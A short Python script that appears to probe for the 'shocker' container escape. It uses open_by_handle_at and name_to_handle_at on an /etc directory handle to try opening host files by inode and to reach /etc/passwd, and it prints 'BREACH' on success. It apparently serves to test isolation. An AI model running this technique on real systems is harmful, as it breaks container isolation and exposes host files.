# Opens files of the host by their number, past every folder in which they lie (the attack called shocker).
import ctypes
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)
SYS_name_to_handle_at, SYS_open_by_handle_at = 303, 304
folder = os.open('/etc', os.O_RDONLY)
for inode in (2, 128, 256):
    handle = ctypes.create_string_buffer(struct.pack('<IiQ', 8, 1, inode), 136)
    if libc.syscall(SYS_open_by_handle_at, folder, handle, 0) >= 0:
        print('BREACH: opened inode', inode)
handle = ctypes.create_string_buffer(struct.pack('<Ii', 128, 0), 136)
if libc.syscall(SYS_name_to_handle_at, folder, b'passwd', handle, ctypes.byref(ctypes.c_int()), 0) == 0 and libc.syscall(SYS_open_by_handle_at, folder, handle, 0) >= 0:
    print('BREACH: opened by a handle')
